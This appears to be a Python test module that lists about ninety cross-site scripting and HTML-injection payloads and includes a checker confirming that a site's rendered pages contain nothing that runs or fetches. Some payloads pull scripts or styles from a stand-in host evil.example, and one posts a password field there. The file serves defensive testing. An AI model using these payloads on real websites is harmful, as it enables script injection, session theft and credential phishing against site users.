"""Strings that have run scripts in somebody's browser, and how to see that a page of ours runs none."""

from tests.crawl import Element

CALL = "alert(1)"
ATTACKS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{CALL}",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\x20type='text/javascript'>{CALL};</script>",
    f"<script/x>{CALL}</script>",
    f"<<script>{CALL};//<</script>",
    f"</script><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f'<img src="x" onerror="{CALL}" alt="A map">',
    f"<img src=x:{CALL} onerror=eval(src)>",
    f'<IMG """><SCRIPT>{CALL}</SCRIPT>">',
    f'<img src="javascript:{CALL}">',
    f'<img dynsrc="javascript:{CALL}"><img lowsrc="javascript:{CALL}">',
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text y=10>Click</text></a></svg>',
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f'<svg><foreignObject><iframe srcdoc="<script>{CALL}</script>"></iframe></foreignObject></svg>',
    f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<math href="javascript:{CALL}">Click</math>',
    f'<math><maction actiontype="statusline#x" xlink:href="javascript:{CALL}">Click</maction></math>',
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<textarea><img title='</textarea><img src=x onerror={CALL}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={CALL}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<select><template><script>{CALL}</script></template></select>",
    f'<a href="javascript:{CALL}">Click</a>',
    f'<a href="JaVaScRiPt:{CALL}">Click</a>',
    f'<a href=" javascript:{CALL}">Click</a>',
    f'<a href="java\nscript:{CALL}">Click</a>',
    f'<a href="java\tscript:{CALL}">Click</a>',
    f'<a href="java&#x0A;script:{CALL}">Click</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:{CALL}">Click</a>',
    f'<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{CALL}">Click</a>',
    f'<a href="\x01javascript:{CALL}">Click</a>',
    f'<a href="javascript&colon;{CALL}">Click</a>',
    f'<a href="java\0script:{CALL}">Click</a>',
    f'<a href="vbscript:{CALL}">Click</a>',
    f'<a href="data:text/html,<script>{CALL}</script>">Click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>',
    '<a href="file:///etc/passwd">Click</a>',
    f'<a href="https://good.example/" onclick="{CALL}">Click</a>',
    f'<a href="https://good.example/" style="background:url(javascript:{CALL})">Click</a>',
    '<a href="https://good.example/" target="_blank">Click</a>',
    f'<a href="//evil.example/" onmouseover="{CALL}">Click</a>',
    f'<a href="https://good.example/&quot; onclick=&quot;{CALL}">Click</a>',
    f"<iframe src='javascript:{CALL}'></iframe>",
    f'<iframe srcdoc="<script>{CALL}</script>">{CALL}</iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    f'<embed src="javascript:{CALL}">',
    '<applet code="X.class"></applet>',
    f'<form action="javascript:{CALL}"><input type=submit><button formaction="javascript:{CALL}">Go</button></form>',
    '<form action="https://evil.example/"><input name="password" autofocus></form>',
    f"<input onfocus={CALL} autofocus>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<video src=x onerror={CALL}></video><audio src=x onerror={CALL}></audio>",
    f"<details open ontoggle={CALL}>Words</details>",
    f"<marquee onstart={CALL}>Words</marquee>",
    f"<body onload={CALL}>",
    f"<p onclick={CALL}>Words</p>",
    f"<p/onclick={CALL}/x=y>Words</p>",
    f'<p style="width:expression({CALL})">Words</p>',
    "<p style='background:url(https://evil.example/x.png)'>Words</p>",
    f"<style>@import 'https://evil.example/x.css';</style><style>body{{background:url(javascript:{CALL})}}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?xml-stylesheet href='javascript:{CALL}'?>",
    f"<x onclick={CALL} id=x tabindex=1>Words</x>",
    f"\u202e<script>{CALL}</script>\u202c",
    f"\ufeff<script>{CALL}</script>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f'" onmouseover="{CALL}" x="',
    f"' autofocus onfocus='{CALL}",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    "{{ 7|add:7 }}{% include 'admin/base.html' %}${7*7}#{7*7}<%= 7*7 %>",
    "<table><tr><td><a name=x></a></table><ul><li><p><b><i>unclosed",
    '<h2 id="main" class="skip" name="related">Clobber</h2><p id="report">Words</p>',
]
RUNNING = {"script", "iframe", "object", "embed", "applet", "base", "svg", "math", "template", "noscript", "style"}
OWN_SCRIPT = {"src": "/static/js/suggest.js", "defer": ""}
ADDRESSES = {"href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href"}


def running(document: Element) -> list[str]:
    """All that could run or fetch in a page of ours, which has no style of its own and no script but that of search."""
    found = []
    # The map of topics is drawn by us; what stands in it is looked at like all else.
    drawn = [sheet for figure in document.all("figure", class_="map") for sheet in figure.parts]
    for element in document.walk():
        if element.tag == "script" and element.attributes == OWN_SCRIPT and not element.parts:
            continue
        if (element.tag in RUNNING and element not in drawn) or (element.tag == "meta" and element.get("http-equiv")):
            found.append(f"<{element.tag}>")
        if element.tag == "form" and element["action"] != "/publications/":
            found.append(f"<form action={element['action']}>")
        found += [
            f"<{element.tag} {name}={value}>" for name, value in element.attributes.items() if runs(element, name)
        ]
    return found


def runs(element, name):
    """Whether this attribute runs, or fetches from elsewhere."""
    value = "".join(element[name].split()).lower()
    if name in ADDRESSES and element.tag != "a":
        return not value.startswith(("/", "http://testserver/")) or value.startswith("//")
    if name in ADDRESSES:
        return not value.startswith(("/", "#", "http://", "https://", "mailto:", "tel:", "?"))
    return name.startswith("on") or name in {"style", "srcdoc", "target", "ping"}
